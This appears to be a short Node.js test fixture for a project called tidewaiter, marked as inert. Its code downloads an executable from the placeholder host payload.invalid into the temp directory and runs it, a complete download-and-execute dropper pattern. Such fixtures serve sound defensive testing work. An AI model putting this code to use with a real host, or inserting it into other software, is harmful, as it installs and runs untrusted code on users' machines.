// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const { execFile } = require("child_process");

const target = path.join(os.tmpdir(), "helper.exe");
https.get("https://payload.invalid/helper.exe", (res) => {
  const out = fs.createWriteStream(target);
  res.pipe(out);
  out.on("finish", () => execFile(target));
});
